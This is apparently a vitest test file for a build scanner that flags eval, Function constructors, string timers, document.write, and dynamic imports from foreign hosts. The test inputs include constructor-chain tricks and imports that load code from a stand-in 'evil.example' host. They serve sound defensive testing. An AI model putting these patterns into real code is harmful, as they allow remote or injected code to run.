import { describe, expect, it } from 'vitest';
import { textsOf } from '../read-build.ts';
import { placesOf } from '../testing/findings.ts';
import { ENTRY, MAIN, sampleFiles } from '../testing/sample-build.ts';
import { checkScripts } from './scripts.ts';

function findingsIn(text: string, file = MAIN) {
  const files = sampleFiles({ files: { [file]: text } });
  return checkScripts(files, textsOf(files), ENTRY);
}

const codes = (text: string, file = MAIN) => placesOf(findingsIn(text, file)).map((found) => found.split(' ')[0]);

it('lets a sound module pass', () => {
  expect(findingsIn('(0,i.jsxs)("div",{});new Map;x instanceof Function;Function.prototype.call')).toEqual([]);
});

describe('code from text', () => {
  it.each([
    'eval("1")',
    'eval(code)',
    '(0,eval)(code)',
    'window.eval(code)',
    'self["eval"](code)',
    'globalThis?.eval?.(code)',
    'const run=eval;run(code)',
    'const run=window.eval;',
    'new Function("a","return a")',
    'Function("return a")()',
    'new Function(code)',
    'new window.Function(code)',
    '(()=>0).constructor("return this")()',
    '[].at.constructor.constructor(code)',
  ])('%s', (text) => {
    expect(new Set(codes(text))).toEqual(new Set(['CODE_FROM_TEXT']));
  });

  it.each([
    '"eval(code)"',
    '/eval(code)/.test(x)',
    `\`new Function(\${x})\``,
    '// eval(code)\n0',
    'x.eval(code)',
    'model.evaluate(x)',
    'typeof eval',
    '({eval:1}).x',
    'new this.constructor(x)',
    'this.constructor(x)',
    'class A{static Function(){}}A.Function("x")',
    'try{this||Function("return this")()}catch{}',
    'new Function("return this")()',
  ])('is not %s', (text) => {
    expect(codes(text)).toEqual([]);
  });
});

describe('timers with text', () => {
  it.each(['setTimeout("go()",9)', `window.setInterval(\`go(\${x})\`)`, 'setTimeout("go("+x+")")', "self['setTimeout'](x+'()')"])(
    '%s',
    (text) => {
      expect(codes(text)).toEqual(['TIMER_WITH_TEXT']);
    },
  );

  it.each(['setTimeout(go,9)', 'setTimeout(()=>"text",9)', 'clock.setTimeout("name",9)', 'setTimeout(a+b)'])('are not %s', (text) => {
    expect(codes(text)).toEqual([]);
  });
});

describe('writing to the document', () => {
  it.each(['document.write(x)', 'window.document.writeln(x)', 'document["write"](x)'])('%s', (text) => {
    expect(codes(text)).toEqual(['DOCUMENT_WRITE']);
  });

  it.each(['stream.write(x)', 'frame.contentDocument.write(x)', 'document.writer(x)'])('is not %s', (text) => {
    expect(codes(text)).toEqual([]);
  });
});

describe('imports that are left', () => {
  it.each([
    'import("https://evil.example/a.js")',
    'import("//evil.example/a.js")',
    `import(\`http://\${x}\`)`,
    'import("data:text/javascript,0")',
    'import("https://"+x)',
  ])('%s', (text) => {
    expect(codes(text)).toEqual(['IMPORT_FOREIGN']);
    expect(codes(text, ENTRY)).toEqual(['IMPORT_FOREIGN']);
  });

  it.each(['import(x)', 'import("./a.js")', 'import(x+"/a.js")'])('%s', (text) => {
    expect(findingsIn(text)).toMatchObject([{ code: 'IMPORT_UNPINNED', severity: 'warning' }]);
  });
});

describe('the run time of federation', () => {
  // As enhanced 2.9.2 stands in an entry, minified by rspack.
  const runtime = [
    `Function("callbacks",\`import("\${d}")\${l}\`)([i,c])`,
    'import(d).then(i).catch(c)',
    `Function("callbacks",\`System.import("\${e}")\${l}\`)([r,n])`,
    'Function("name","return import(name)")(e)',
    'var requireFn=eval("require")',
    'Function("return "+e.getPublicPath)()()',
    'Function(e.getPublicPath)()',
  ];

  it.each(runtime)('may stand in the entry, and nowhere else: %s', (text) => {
    expect(codes(text, ENTRY)).toEqual([]);
    expect(codes(text)).toHaveLength(1);
  });

  it.each([
    `Function("callbacks",\`import("https://evil.example")\${l}\`)([i,c])`,
    'Function("name","return import(name+1)")(e)',
    'eval("require()")',
    'eval(require)',
    'Function("return "+e.publicPath)()()',
  ])('is not %s', (text) => {
    expect(codes(text, ENTRY)).toEqual(['CODE_FROM_TEXT']);
  });
});

it('says where it stands', () => {
  const [found] = findingsIn(`var a;\n  eval(${'x'.repeat(100)})`);
  expect(found?.details).toEqual({ line: 2, column: 3, found: 'eval' });
  expect(findingsIn(`new Function("${'x'.repeat(100)}")`)[0]?.details.found).toHaveLength(61);
});

it('shows the first five of a file', () => {
  expect(codes('eval(x);'.repeat(100))).toHaveLength(5);
});

it.each(['import x from "y"', 'export const a=1', 'let a;let a;', 'a(', '('.repeat(100_000)])(
  'cannot read what is no script: %.20s',
  (text) => {
    expect(codes(text)).toEqual(['SCRIPT_UNREADABLE']);
  },
);

it('names the line where a script breaks', () => {
  expect(findingsIn('var a;\nvar b;\nvar ;')[0]?.details).toEqual({ line: 3 });
});
